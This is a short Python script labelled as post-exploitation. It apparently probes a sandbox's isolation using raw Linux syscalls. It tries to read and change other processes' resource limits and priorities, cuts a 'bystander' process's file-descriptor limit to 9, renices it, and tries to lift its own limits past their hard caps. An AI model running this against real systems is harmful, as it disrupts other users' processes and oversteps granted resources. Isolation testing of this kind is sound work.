# kind=cap; source: post-exploitation: limits and priorities, its own raised and those of others changed
import ctypes, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def wide(value):
    return ctypes.c_long(value) if type(value) is int else value
did = []
for pid in (target["host"], target["bystander"], *range(1, 60)):
    for kind in range(16):
        found = (ctypes.c_uint64 * 2)()
        if libc.syscall(302, pid, kind, None, ctypes.byref(found)) >= 0:
            did.append(("read", pid, kind))
            if libc.syscall(302, pid, kind, ctypes.byref(found), None) >= 0:
                did.append(("set", pid, kind))
    mask = ctypes.create_string_buffer(128)
    for call in ((140, 0, pid), (204, pid, 128, mask), (145, pid), (252, 1, pid), (120,)):
        if libc.syscall(*map(wide, call)) >= 0:
            did.append((call[0], pid))
one = target["bystander"]
if libc.syscall(302, one, 7, ctypes.byref((ctypes.c_uint64 * 2)(9, 9)), None) >= 0:
    did.append("the bystander's descriptors")
if libc.syscall(141, 0, one, 19) >= 0:
    did.append("the bystander's priority")
for kind in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_CORE, resource.RLIMIT_STACK):
    soft, hard = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (hard, hard + 1))
        did.append(("raised", kind))
    except (OSError, ValueError):
        pass
breached = did
